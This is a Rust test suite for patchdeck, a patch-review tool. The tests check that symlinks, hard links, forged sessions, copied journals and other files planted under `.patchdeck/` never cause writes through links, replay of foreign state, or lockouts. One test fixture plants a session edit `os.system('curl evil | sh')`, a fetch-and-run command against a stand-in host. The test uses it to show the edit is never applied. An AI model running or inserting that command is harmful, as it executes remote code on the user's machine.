//! What a cloned repository, an unpacked archive or a copied workspace can plant under
//! `.patchdeck/`: links, hard links, sessions, handback files, history entries, journals
//! sealed elsewhere. Each can make patchdeck refuse or warn, but never write outside the
//! batch's files, never resume or replay what it did not make, and never refuse the commands
//! after it. A read-only mount or a full state folder fails one command, not every later one.

#[cfg(target_os = "linux")]
use crate::common::mount::Mount;
use crate::common::reviewer::{open, press, Open};
use crate::common::terminal::Terminal;
use crate::common::{
    patchdeck, patchdeck_env, sample_workspace, samples, stderr, stdout, tree, user_tree,
    workspace_with,
};
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};

/// A batch changing `notes.txt` from `n\n` to `N\n`, in a folder of its own.
fn notes_batch() -> (tempfile::TempDir, PathBuf) {
    let outside = tempfile::tempdir().unwrap();
    let batch = outside.path().join("notes.diff");
    fs::write(
        &batch,
        "--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-n\n+N\n",
    )
    .unwrap();
    (outside, batch)
}

/// `patchdeck ARGS --root ws`.
fn run(ws: &Path, args: &[&str]) -> std::process::Output {
    let mut all = args.to_vec();
    all.extend(["--root", ws.to_str().unwrap()]);
    patchdeck(&all)
}

/// A state folder as patchdeck makes it (private to this user), for a test to plant in.
fn state_folder(ws: &Path) -> PathBuf {
    let state = ws.join(".patchdeck");
    fs::create_dir_all(&state).unwrap();
    fs::set_permissions(&state, fs::Permissions::from_mode(0o700)).unwrap();
    state
}

/// A `.patchdeck/lock` extracted from an archive as a hard link to a tracked file: the tracked
/// file keeps its bytes through `apply` and `recover`, and the lock is patchdeck's own.
#[test]
fn a_lock_planted_as_a_hard_link_never_writes_the_file_it_shares() {
    let (_outside, batch) = notes_batch();
    let tracked = b"print('keep me')\n";
    let ws = workspace_with(&[("src/app.py", tracked), ("notes.txt", b"n\n")]);
    let state = state_folder(ws.path());
    for args in [vec!["recover"], vec!["apply", batch.to_str().unwrap()]] {
        let _ = fs::remove_file(state.join("lock"));
        fs::hard_link(ws.path().join("src/app.py"), state.join("lock")).unwrap();
        let out = run(ws.path(), &args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains(".patchdeck/lock was not a lock patchdeck made (a file with 2 names, whose contents were not touched)"),
            "{args:?}: {}",
            stderr(&out)
        );
        assert_eq!(
            fs::read(ws.path().join("src/app.py")).unwrap(),
            tracked,
            "{args:?}"
        );
        assert!(
            !state.join("lock").exists(),
            "{args:?}: the lock is released"
        );
    }
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"N\n");
}

/// Links planted where the reviewer writes its feedback and `--fresh` its copy of the session
/// are replaced by files of patchdeck's own: what they lead to is never written.
#[test]
fn links_planted_where_the_reviewer_writes_are_replaced_never_written_through() {
    let ws = sample_workspace();
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    fs::write(&victim, "keep\n").unwrap();

    // A decision saved, so that `--fresh` has a session to keep a copy of.
    let mut app = open(ws.path(), Open::default());
    press(&mut app, "a");
    app.flush_session();
    let session = app.session().unwrap().path().to_path_buf();
    let sha = app.review().batch().content_sha256.clone();
    drop(app);

    let handback = ws.path().join(".patchdeck/handback");
    fs::create_dir_all(&handback).unwrap();
    fs::set_permissions(&handback, fs::Permissions::from_mode(0o700)).unwrap();
    let feedback = handback.join(format!("{}-feedback.md", &sha[..12]));
    symlink(&victim, &feedback).unwrap();
    let backup = session.with_extension("json.bak");
    symlink(&victim, &backup).unwrap();

    let mut app = open(
        ws.path(),
        Open {
            fresh: true,
            ..Open::default()
        },
    );
    press(&mut app, "F");
    let said = app.message.as_ref().unwrap().text.clone();
    assert!(said.contains("written to"), "{said}");
    assert_eq!(fs::read_to_string(&victim).unwrap(), "keep\n");
    for (path, what) in [(&feedback, "feedback"), (&backup, "session copy")] {
        let meta = fs::symlink_metadata(path).unwrap();
        assert!(meta.is_file(), "{what} is still a link");
    }
    assert!(fs::read_to_string(&feedback)
        .unwrap()
        .contains("clearer-error"));
    assert_eq!(fs::read(&backup).unwrap(), fs::read(&session).unwrap());
}

/// A `.patchdeck` that is a link, or that others may write in, is refused by what writes, with
/// the fix; what only reads warns and goes on. Nothing is written where the link leads.
#[test]
fn a_state_folder_that_is_a_link_or_open_to_others_is_refused_with_the_fix() {
    let (_batch_dir, batch) = notes_batch();
    let batch = batch.to_str().unwrap();
    let ws = workspace_with(&[("notes.txt", b"n\n")]);
    let elsewhere = tempfile::tempdir().unwrap();
    symlink(elsewhere.path(), ws.path().join(".patchdeck")).unwrap();
    let out = run(ws.path(), &["apply", batch]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains(".patchdeck: it is a symbolic link") && err.contains("remove the link (`rm "),
        "{err}"
    );
    assert!(err.contains("nothing was written"), "{err}");
    let out = run(ws.path(), &["check", batch]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("patchdeck ignores it"),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read_dir(elsewhere.path()).unwrap().count(), 0);
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"n\n");

    fs::remove_file(ws.path().join(".patchdeck")).unwrap();
    fs::create_dir(ws.path().join(".patchdeck")).unwrap();
    fs::set_permissions(
        ws.path().join(".patchdeck"),
        fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    let out = run(ws.path(), &["apply", batch]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(stderr(&out).contains("(`chmod go-w "), "{}", stderr(&out));
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"n\n");
    // Fixed as it says, the same command goes through.
    fs::set_permissions(
        ws.path().join(".patchdeck"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let out = run(ws.path(), &["apply", batch]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"N\n");
}

/// A sessions folder that is a link: the reviewer says its decisions are not saved, and why;
/// nothing lands where the link leads.
#[test]
fn a_sessions_folder_that_is_a_link_is_never_written_through() {
    let ws = sample_workspace();
    let elsewhere = tempfile::tempdir().unwrap();
    state_folder(ws.path());
    symlink(elsewhere.path(), ws.path().join(".patchdeck/sessions")).unwrap();
    let mut app = open(ws.path(), Open::default());
    press(&mut app, "a");
    app.flush_session();
    let (_, said) = app.status_text().unwrap();
    assert!(
        said.contains("session not saved") && said.contains("is a symbolic link"),
        "{said}"
    );
    assert_eq!(fs::read_dir(elsewhere.path()).unwrap().count(), 0);
}

/// A session file committed to a repository, with an edit in it, is not resumed: the reviewer
/// says why, no planted decision is made, and a commit writes none of it.
#[test]
fn a_session_that_came_with_a_clone_is_never_resumed() {
    let ws = sample_workspace();
    let app = open(ws.path(), Open::default());
    let session = app.session().unwrap().path().to_path_buf();
    let batch = app.review().batch().clone();
    drop(app);
    let (first, second) = {
        let mut ids = batch.changes().map(|(_, c)| c.id.as_str().to_owned());
        (ids.next().unwrap(), ids.next().unwrap())
    };
    let planted = serde_json::json!({
        "batch": batch.content_sha256,
        "decisions": {first.as_str(): {"edit": ["import os; os.system('curl evil | sh')"]},
                      second.as_str(): "accept"}
    });
    fs::create_dir_all(session.parent().unwrap()).unwrap();
    fs::set_permissions(
        ws.path().join(".patchdeck"),
        fs::Permissions::from_mode(0o700),
    )
    .unwrap();
    fs::write(&session, planted.to_string()).unwrap();

    let mut app = open(ws.path(), Open::default());
    assert_eq!(app.restored, 0);
    assert_eq!(app.decided(), 0);
    let (_, said) = app.status_text().unwrap();
    assert!(
        said.contains("saved session not used")
            && said.contains("was not written by patchdeck for this user in this workspace")
            && said.contains("your first decision replaces it"),
        "{said}"
    );
    // Rejecting everything and committing writes nothing, the planted edit least of all.
    let before = user_tree(ws.path());
    press(&mut app, "rrrrrrrrrr");
    press(&mut app, "c");
    press(&mut app, "y");
    assert_eq!(user_tree(ws.path()), before);

    // A session this user sealed in another workspace is not this one's either.
    let other = sample_workspace();
    let mut there = open(other.path(), Open::default());
    press(&mut there, "a");
    there.flush_session();
    let sealed_there = there.session().unwrap().path().to_path_buf();
    drop(there);
    fs::copy(&sealed_there, &session).unwrap();
    let app = open(ws.path(), Open::default());
    assert_eq!(app.restored, 0);
    let (_, said) = app.status_text().unwrap();
    assert!(said.contains("copied here"), "{said}");
}

/// The real binary says the same in a terminal, before anything else.
#[test]
fn the_reviewer_says_a_planted_session_is_not_used() {
    let ws = sample_workspace();
    let home = tempfile::tempdir().unwrap();
    let demo = samples().join("demo.json");
    let sha = patchdeck::model::sha256_hex(&fs::read(&demo).unwrap());
    let sessions = state_folder(ws.path()).join("sessions");
    fs::create_dir(&sessions).unwrap();
    fs::write(
        sessions.join(format!("{sha}.json")),
        serde_json::json!({"batch": sha, "decisions": {}}).to_string(),
    )
    .unwrap();
    let mut term = Terminal::start(
        home.path(),
        &[
            "--root",
            ws.path().to_str().unwrap(),
            demo.to_str().unwrap(),
        ],
        &[("NO_COLOR", "1")],
    );
    let screen = term.wait_for("saved session not used");
    assert!(screen.contains("it has no seal"), "{screen}");
    term.keys(&["q"]);
    assert_eq!(term.wait_exit().0, 0);
}

/// A journal sealed by this user in workspace A, copied into workspace B with bytes at the
/// staged names, is not B's: recovery in B leaves B's files as they are and says why, and A's
/// own journal still recovers A.
#[test]
fn a_journal_copied_from_another_workspace_is_never_replayed() {
    let (_outside, batch) = notes_batch();
    let a = workspace_with(&[("notes.txt", b"n\n")]);
    let out = patchdeck_env(
        &[
            "apply",
            "--root",
            a.path().to_str().unwrap(),
            batch.to_str().unwrap(),
        ],
        &[("PATCHDECK_FAILPOINT", "mark=kill")],
    );
    assert_eq!(out.status.code(), None, "killed: {}", stderr(&out));
    assert_eq!(fs::read(a.path().join("notes.txt")).unwrap(), b"N\n");
    let b = workspace_with(&[("notes.txt", b"mine, in b\n")]);
    crate::common::copy_tree(a.path(), b.path());
    fs::write(b.path().join("notes.txt"), b"mine, in b\n").unwrap();
    let before = user_tree(b.path());
    let out = run(b.path(), &["recover"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "this user sealed it for the workspace at {}",
            fs::canonicalize(a.path()).unwrap().display()
        )) && err.contains("copied here"),
        "{err}"
    );
    assert_eq!(
        user_tree(b.path()),
        before,
        "recovery in b touched b's files"
    );
    let out = run(a.path(), &["recover"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("rolled back an interrupted commit"),
        "{}",
        stdout(&out)
    );
    assert_eq!(fs::read(a.path().join("notes.txt")).unwrap(), b"n\n");
}

/// Junk in the history (empty folders named like records, with huge numbers; files; a link):
/// never counted against the ten records kept, never removed, never a reason to refuse.
#[test]
fn junk_in_the_history_is_named_never_counted_nor_removed() {
    let (batches, batch) = notes_batch();
    let batch = batch.to_str().unwrap();
    let ws = workspace_with(&[("notes.txt", b"n\n")]);
    let history = state_folder(ws.path()).join("history");
    fs::create_dir(&history).unwrap();
    for n in 0..10 {
        fs::create_dir(history.join(format!("ffffffffffffff{n:02x}{:016x}-1", 0))).unwrap();
    }
    for n in 0..11 {
        fs::write(history.join(format!("junk-{n}")), "x").unwrap();
    }
    let outside = tempfile::tempdir().unwrap();
    symlink(outside.path(), history.join("link")).unwrap();
    let junk = tree(&history);
    let out = run(ws.path(), &["apply", batch]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // A state folder that came without its .gitignore gets one: what patchdeck keeps there
    // never shows in `git status`.
    assert_eq!(
        fs::read_to_string(ws.path().join(".patchdeck/.gitignore")).unwrap(),
        "# patchdeck's own state\n*\n"
    );
    assert!(
        stderr(&out).contains("ignored 22 entries in .patchdeck/history")
            && stderr(&out).contains("-1: no seal of this workspace's")
            && stderr(&out).contains("and 19 more"),
        "{}",
        stderr(&out)
    );
    let out = run(ws.path(), &["undo"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"n\n");
    // Twelve commits, there and back: the ten newest are kept, the junk beside them.
    there_and_back(ws.path(), batches.path(), batch, 12);
    let mut now = tree(&history);
    let records: Vec<PathBuf> = now
        .keys()
        .filter(|p| p.components().count() == 1 && p.to_string_lossy().ends_with('/'))
        .filter(|p| !junk.contains_key(*p))
        .cloned()
        .collect();
    assert_eq!(records.len(), 10, "{records:?}");
    assert!(
        records
            .iter()
            .all(|r| r.to_string_lossy().starts_with("00000000000000")),
        "numbered after the records, not the junk: {records:?}"
    );
    now.retain(|p, _| junk.contains_key(p));
    assert_eq!(now, junk, "the junk is as it was");
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
}

/// Applies `batch` (which turns notes.txt's `n` into `N`) and a diff back, in turn, `commits`
/// times in all, each committing.
fn there_and_back(ws: &Path, batches: &Path, batch: &str, commits: usize) {
    let back = batches.join("back.diff");
    fs::write(
        &back,
        "--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-N\n+n\n",
    )
    .unwrap();
    for n in 0..commits {
        let batch = if n % 2 == 0 {
            batch
        } else {
            back.to_str().unwrap()
        };
        let out = run(ws, &["apply", batch]);
        assert_eq!(out.status.code(), Some(0), "{n}: {}", stderr(&out));
    }
}

/// What the history prunes goes to `.patchdeck/retired/` and is removed by a later command;
/// what patchdeck did not put there (a folder named like a record from a clone, a file, a
/// link) is named in a warning, never removed, and nothing is followed.
#[test]
fn only_retired_records_are_swept() {
    let (batches, batch) = notes_batch();
    let batch = batch.to_str().unwrap();
    let ws = workspace_with(&[("notes.txt", b"n\n")]);
    let retired = state_folder(ws.path()).join("retired");
    fs::create_dir(&retired).unwrap();
    let planted = retired.join(format!("ff{:014x}{:016x}-1", 1, 0));
    fs::create_dir(&planted).unwrap();
    fs::write(planted.join("1"), "someone's\n").unwrap();
    fs::write(planted.join("mark"), "forged\n").unwrap();
    fs::write(retired.join("notes"), "x").unwrap();
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("keep"), "k").unwrap();
    symlink(outside.path(), retired.join("link")).unwrap();
    let junk = tree(&retired);
    there_and_back(ws.path(), batches.path(), batch, 13);
    // A commit that prunes names what it found there and left.
    let back = batches.path().join("back.diff");
    let out = run(ws.path(), &["apply", back.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("ignored 3 entries in .patchdeck/retired")
            && stderr(&out).contains("not a record patchdeck retired here"),
        "{}",
        stderr(&out)
    );
    let records = |at: &Path| {
        fs::read_dir(at)
            .unwrap()
            .filter(|e| {
                let name = e.as_ref().unwrap().file_name();
                let name = name.to_string_lossy();
                name.starts_with("00000000000000")
            })
            .count()
    };
    assert_eq!(records(&state_folder(ws.path()).join("history")), 10);
    // The last commit retired one record; the sweep of that command may have taken it.
    assert!(records(&retired) <= 1, "{:?}", tree(&retired));
    let out = run(ws.path(), &["undo"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(records(&retired), 0, "{:?}", tree(&retired));
    assert_eq!(
        tree(&retired),
        junk,
        "what patchdeck did not retire is as it was"
    );
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 1);
}

/// Writes `bytes` to `at` inside a tmpfs mounted there, then makes it read-only.
#[cfg(target_os = "linux")]
fn read_only_mount(at: &Path, name: &str, bytes: &[u8]) -> Mount {
    fs::create_dir_all(at).unwrap();
    let mount = Mount::tmpfs(at, "64k");
    fs::write(at.join(name), bytes).unwrap();
    mount.remount(libc::MS_RDONLY, "");
    mount
}

/// A read-only mount inside the root: the commit that writes there fails, leaves no journal,
/// and every later command (an apply elsewhere, undo, recover) works.
#[test]
#[cfg(target_os = "linux")]
fn a_read_only_mount_fails_one_command_not_every_later_one() {
    let ws = workspace_with(&[("notes.txt", b"n\n")]);
    let ro = ws.path().join("ro");
    let _mount = read_only_mount(&ro, "f.txt", b"f\n");
    let outside = tempfile::tempdir().unwrap();
    let both = outside.path().join("both.diff");
    fs::write(
        &both,
        "--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-n\n+N\n--- a/ro/f.txt\n+++ b/ro/f.txt\n@@ -1 +1 @@\n-f\n+F\n",
    )
    .unwrap();
    let out = run(ws.path(), &["apply", both.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("Read-only file system"),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("every file was restored, nothing was written"),
        "{}",
        stderr(&out)
    );
    assert!(
        !ws.path().join(".patchdeck/journal").exists(),
        "a journal is left"
    );
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"n\n");
    let (_dir, notes) = notes_batch();
    for args in [
        vec!["apply", notes.to_str().unwrap()],
        vec!["undo"],
        vec!["recover"],
    ] {
        let out = run(ws.path(), &args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
    }
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"n\n");
}

/// The state folder full after the mark: the commit stands, its cleanup waits (the originals
/// beside their files), later commands work and say so, `undo` will not undo an earlier
/// commit in its place; once there is room, the next command finishes it, and it undoes.
#[test]
#[cfg(target_os = "linux")]
fn a_full_state_folder_after_the_mark_costs_a_warning_not_a_lockout() {
    let big = vec![b'b'; 200 << 10];
    let mut new_big = big.clone();
    new_big[0] = b'B';
    let ws = workspace_with(&[("big.txt", &big), ("notes.txt", b"n\n")]);
    let mount = Mount::tmpfs(&state_folder(ws.path()), "64k,mode=0700");
    let outside = tempfile::tempdir().unwrap();
    let big_batch = outside.path().join("big.json");
    fs::write(
        &big_batch,
        serde_json::json!({"root": ".", "files": [{"path": "big.txt",
            "content": String::from_utf8(new_big.clone()).unwrap()}]})
        .to_string(),
    )
    .unwrap();
    let out = run(ws.path(), &["apply", big_batch.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("the commit is done, but not its cleanup")
            && stderr(&out).contains("No space left on device"),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read(ws.path().join("big.txt")).unwrap(), new_big);
    let out = run(ws.path(), &["undo"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("is not finished"), "{}", stderr(&out));
    let (_dir, notes) = notes_batch();
    let out = run(ws.path(), &["apply", notes.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is still not done"),
        "said again: {}",
        stderr(&out)
    );
    mount.remount(0, "size=2m");
    let out = run(ws.path(), &["recover"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("finished the cleanup of 1 earlier commit(s)"),
        "{}",
        stdout(&out)
    );
    assert!(crate::common::staged_leftovers(ws.path()).is_empty());
    for _ in 0..2 {
        let out = run(ws.path(), &["undo"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    }
    assert_eq!(fs::read(ws.path().join("big.txt")).unwrap(), big);
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"n\n");
}

/// Anything at the names patchdeck uses (a folder, a link out of the workspace, a FIFO, a huge
/// sparse file, a file where a folder belongs): a warning at most, never a write where it
/// leads, never a command that hangs, and the commands after it work: apply, apply back,
/// undo, recover.
#[test]
fn odd_things_at_the_names_patchdeck_uses_never_lock_the_workspace() {
    let (batches, there) = notes_batch();
    let back = batches.path().join("back.diff");
    fs::write(
        &back,
        "--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-N\n+n\n",
    )
    .unwrap();
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    type Plant = fn(&Path, &Path);
    let plants: [(&str, Plant); 10] = [
        ("a folder at .gitignore", |state, _| {
            fs::create_dir_all(state.join(".gitignore/inside")).unwrap();
        }),
        ("a folder at journal", |state, _| {
            fs::create_dir_all(state.join("journal/inside")).unwrap();
        }),
        ("a link at journal", |state, victim| {
            symlink(victim, state.join("journal")).unwrap()
        }),
        ("a FIFO at journal", |state, _| {
            mkfifo(&state.join("journal"))
        }),
        ("a huge journal", |state, _| {
            let file = fs::File::create(state.join("journal")).unwrap();
            file.set_len(1 << 30).unwrap();
        }),
        ("a file at history", |state, _| {
            fs::write(state.join("history"), "x").unwrap()
        }),
        ("a link at history", |state, victim| {
            symlink(victim.parent().unwrap(), state.join("history")).unwrap()
        }),
        ("a file at unfinished", |state, _| {
            fs::write(state.join("unfinished"), "x").unwrap()
        }),
        ("junk in unfinished", |state, _| {
            fs::create_dir(state.join("unfinished")).unwrap();
            fs::write(state.join(format!("unfinished/{:032x}-1", u128::MAX)), "x").unwrap();
        }),
        ("a folder at lock", |state, _| {
            fs::create_dir_all(state.join("lock/inside")).unwrap();
        }),
    ];
    for (what, plant) in plants {
        fs::write(&victim, "keep\n").unwrap();
        let ws = workspace_with(&[("notes.txt", b"n\n")]);
        plant(&state_folder(ws.path()), &victim);
        // With no history to keep records in, there is nothing to undo: `undo` says how to
        // fix that, and the commits said their undo record could not be kept.
        let no_history = what.ends_with("at history");
        let undone = if no_history { "n\n" } else { "N\n" };
        for (args, notes) in [
            (vec!["check", there.to_str().unwrap()], "n\n"),
            (vec!["apply", there.to_str().unwrap()], "N\n"),
            (vec!["apply", back.to_str().unwrap()], "n\n"),
            (vec!["undo"], undone),
            (vec!["recover"], undone),
        ] {
            let out = run(ws.path(), &args);
            if no_history && args[0] == "undo" {
                assert_eq!(out.status.code(), Some(3), "{what}: {}", stderr(&out));
                assert!(
                    stderr(&out).contains("remove it (`rm "),
                    "{what}: {}",
                    stderr(&out)
                );
            } else {
                assert_eq!(
                    out.status.code(),
                    Some(0),
                    "{what}: {args:?}: {}",
                    stderr(&out)
                );
            }
            if no_history && args[0] == "apply" {
                assert!(
                    stderr(&out).contains("its undo record could not be kept"),
                    "{what}: {}",
                    stderr(&out)
                );
            }
            assert_eq!(
                fs::read_to_string(ws.path().join("notes.txt")).unwrap(),
                notes,
                "{what}: {args:?}"
            );
        }
        assert_eq!(fs::read_to_string(&victim).unwrap(), "keep\n", "{what}");
        assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 1, "{what}");
        assert!(
            crate::common::staged_leftovers(ws.path()).is_empty(),
            "{what}: {:?}",
            crate::common::staged_leftovers(ws.path())
        );
    }
}

fn mkfifo(path: &Path) {
    use std::os::unix::ffi::OsStrExt;
    let c = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path; the result is checked.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

/// A workspace moved (renamed, or reached through another mount) is the same folder: its
/// interrupted commit is recovered, and its undo history still undoes, saying where it was.
#[test]
fn a_moved_workspace_keeps_its_journal_and_its_history() {
    let (_outside, batch) = notes_batch();
    let parent = tempfile::tempdir().unwrap();
    let (first, second) = (parent.path().join("first"), parent.path().join("second"));
    fs::create_dir(&first).unwrap();
    fs::write(first.join("notes.txt"), "n\n").unwrap();
    let killed = patchdeck_env(
        &[
            "apply",
            "--root",
            first.to_str().unwrap(),
            batch.to_str().unwrap(),
        ],
        &[("PATCHDECK_FAILPOINT", "mark=kill")],
    );
    assert_eq!(killed.status.code(), None, "killed: {}", stderr(&killed));
    fs::rename(&first, &second).unwrap();
    let out = run(&second, &["recover"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("rolled back an interrupted commit"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains(&format!(
            "the interrupted commit was made when this workspace was at {}",
            fs::canonicalize(parent.path())
                .unwrap()
                .join("first")
                .display()
        )),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read(second.join("notes.txt")).unwrap(), b"n\n");
    assert!(crate::common::staged_leftovers(&second).is_empty());
    // Committed here, undone after moving back.
    let out = run(&second, &["apply", batch.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    fs::rename(&second, &first).unwrap();
    let out = run(&first, &["undo"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read(first.join("notes.txt")).unwrap(), b"n\n");
}

/// Marks this user sealed that do not make a folder a record here: one naming another record
/// (a mark copied between records), and one of another workspace's record copied in whole.
#[test]
fn a_mark_of_another_record_or_workspace_makes_no_record() {
    let (_outside, batch) = notes_batch();
    let there = workspace_with(&[("notes.txt", b"n\n")]);
    let out = run(there.path(), &["apply", batch.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let record = fs::read_dir(there.path().join(".patchdeck/history"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let here = workspace_with(&[("notes.txt", b"N\n")]);
    let history = state_folder(here.path()).join("history");
    fs::create_dir(&history).unwrap();
    // The other workspace's record, whole, under its own name.
    let copied = history.join(record.file_name().unwrap());
    fs::create_dir(&copied).unwrap();
    crate::common::copy_tree(&record, &copied);
    // Its mark, under another record's name.
    let renamed = history.join(format!("{:032x}-1", 5));
    fs::create_dir(&renamed).unwrap();
    crate::common::copy_tree(&record, &renamed);
    let out = run(here.path(), &["undo"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("nothing to undo") && err.contains("ignored 2 entries"),
        "{err}"
    );
    assert_eq!(fs::read(here.path().join("notes.txt")).unwrap(), b"N\n");
}
